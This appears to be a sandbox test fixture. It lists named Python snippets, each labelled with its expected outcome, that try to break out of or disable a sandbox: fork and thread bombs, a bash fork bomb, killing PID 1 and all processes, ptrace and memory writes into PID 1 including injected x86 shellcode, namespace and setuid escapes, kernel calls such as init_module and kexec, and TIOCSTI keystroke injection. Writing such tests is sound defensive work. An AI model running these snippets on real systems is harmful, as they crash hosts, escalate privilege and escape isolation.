#: fork_bomb: OUT_OF_TIME, BROKEN, FAILED
import os
while True:
    try:
        os.fork()
    except OSError:
        pass

#: fork_bomb_of_the_shell: OUT_OF_TIME, BROKEN, FAILED, COMPLETED
import subprocess
subprocess.run(["bash", "-c", ":(){ :|:& };:; sleep 60"])

#: thread_bomb: OUT_OF_TIME, BROKEN, FAILED, OUT_OF_MEMORY
import threading, time
def wait():
    while True:
        time.sleep(0.1)
while True:
    try:
        threading.Thread(target=wait, daemon=True).start()
    except RuntimeError:
        time.sleep(0.01)

#: children_left_behind: COMPLETED
import os, signal, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                time.sleep(1)
        os._exit(0)

#: program_of_the_system_left_behind: COMPLETED
import subprocess
for _ in range(3):
    subprocess.Popen(["nohup", "setsid", "sleep", "98765"], start_new_session=True)

#: signals_to_the_parent: FAILED, BROKEN, COMPLETED
import ctypes, os, signal
attempt("process of the machine", lambda: os.kill(VICTIM, signal.SIGKILL))
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
    os.kill(os.getppid(), number)
    os.kill(1, number)
attempt("everything", lambda: os.kill(-1, signal.SIGKILL) or 1 / 0)
os.killpg(0, signal.SIGKILL)

#: end_from_within: BROKEN
import os
os._exit(0)

#: end_by_a_signal: BROKEN
import os
os.kill(os.getpid(), 9)

#: end_by_a_wrong_address: BROKEN
import ctypes
ctypes.string_at(0)

#: signals_ignored: OUT_OF_TIME
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass

#: limits_raised: COMPLETED
import resource
for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    which = getattr(resource, name)
    hard = resource.getrlimit(which)[1]
    if hard == resource.RLIM_INFINITY:
        escaped(name)
    attempt(name, lambda: resource.setrlimit(which, (hard + 1, hard + 1)) or name)

for line in open("/proc/1/limits"):
    if line.startswith(("Max cpu", "Max data", "Max address", "Max file size", "Max open")) and "unlimited" in line:
        escaped(line)

#: tracing: COMPLETED
import ctypes, os, platform
x86 = platform.machine() == "x86_64"
call("trace the first process", 101 if x86 else 117, 16, 1, 0, 0)
call("seize it", 101 if x86 else 117, 0x4206, 1, 0, 0)
call("read its memory", 310 if x86 else 270, 1, 0, 0, 0, 0, 0)
call("write its memory", 311 if x86 else 271, 1, 0, 0, 0, 0, 0)
call("take its descriptor", 438, 0, 0, 0)
call("compare", 312 if x86 else 272, 1, 1, 0, 0, 0)

#: first_process_rewritten: COMPLETED, BROKEN, OUT_OF_TIME
# Lets the first process of the sandbox forget that it ends with those outside, and tell them that all is over.
import os, platform, struct, time
if platform.machine() == "x86_64":
    counters = [int(name) for name in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + name)]
    forget = b"\xb8" + struct.pack("<I", 157) + b"\xbf\x01\0\0\0\x31\xf6\x0f\x05"
    tell = b"\x6a\x01" + b"".join(
        b"\xb8\x01\0\0\0\xbf" + struct.pack("<I", counter) + b"\x48\x89\xe6\xba\x08\0\0\0\x0f\x05" for counter in counters)
    stay = b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"
    with open("/proc/1/syscall") as file:
        place = int(file.read().split()[-1], 16)
    with open("/proc/1/mem", "r+b", 0) as memory:
        memory.seek(place)
        memory.write(forget + tell + stay)
    if os.fork() == 0:
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
    os.wait()
    time.sleep(1)
    os._exit(0)

#: namespaces: COMPLETED
import ctypes, platform, shutil, subprocess
x86 = platform.machine() == "x86_64"
for flag in (0x10000000, 0x20000000, 0x40000000, 0x20000, 0x8000000, 0x4000000, 0x2000000):
    call("unshare %x" % flag, 272 if x86 else 97, flag)
    call("clone %x" % flag, 56 if x86 else 220, flag | 17, 0, 0, 0, 0)
call("clone3", 435, 0, 0)
call("setns", 308 if x86 else 268, 0, 0)
for command in (["unshare", "-r", "id"], ["unshare", "-n", "id"], ["nsenter", "-t", "1", "-a", "id"],
                ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "id"]):
    if shutil.which(command[0]):
        attempt(" ".join(command), lambda: subprocess.run(command, check=True, capture_output=True, timeout=2))

#: other_users: COMPLETED
import os, shutil, subprocess
attempt("setuid", lambda: os.setuid(0) or "root")
attempt("setresuid", lambda: os.setresuid(0, 0, 0) or "root")
attempt("setgroups", lambda: os.setgroups([0]) or "root")
attempt("capabilities", lambda: open("/proc/self/uid_map", "wb", 0).write(b"0 0 1"))
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["pkexec", "id"], ["newgrp", "root"], ["passwd", "-S"]):
    if shutil.which(command[0]):
        attempt(" ".join(command), lambda: subprocess.run(command, check=True, capture_output=True, timeout=2, stdin=subprocess.DEVNULL))
status = open("/proc/self/status").read()
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if name + ":\t0000000000000000" not in status:
        escaped(name)
if "NoNewPrivs:\t1" not in status or "Seccomp:\t2" not in status:
    escaped("privileges")

#: calls_of_the_kernel: COMPLETED
import ctypes, platform
x86 = platform.machine() == "x86_64"
for name, number, other in (("bpf", 321, 280), ("perf_event_open", 298, 241), ("userfaultfd", 323, 282), ("keyctl", 250, 219),
                            ("add_key", 248, 217), ("request_key", 249, 218), ("io_uring_setup", 425, 425), ("init_module", 175, 105),
                            ("finit_module", 313, 273), ("kexec_load", 246, 104), ("reboot", 169, 142), ("syslog", 103, 116),
                            ("personality", 135, 92), ("settimeofday", 164, 170), ("clock_settime", 227, 112),
                            ("sethostname", 170, 161), ("memfd_create", 319, 279), ("shmget", 29, 194), ("msgget", 68, 186),
                            ("swapon", 167, 224), ("acct", 163, 89), ("fanotify_init", 300, 262)):
    call(name, number if x86 else other, 0, 0, 0, 0, 0)

#: calls_in_the_manner_of_another_processor: BROKEN, COMPLETED
import ctypes, platform
if platform.machine() == "x86_64":
    call("getpid of 32 bits", 0x40000000 | 39)
    escaped("a narrow call")

#: input_of_the_terminal: COMPLETED
import fcntl, os, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/ptmx", "/proc/self/fd/0"):
    try:
        terminal = os.open(path, os.O_RDWR)
    except OSError:
        continue
    for letter in b"id\n":
        attempt("push into " + path, lambda: fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter])) or "pushed")
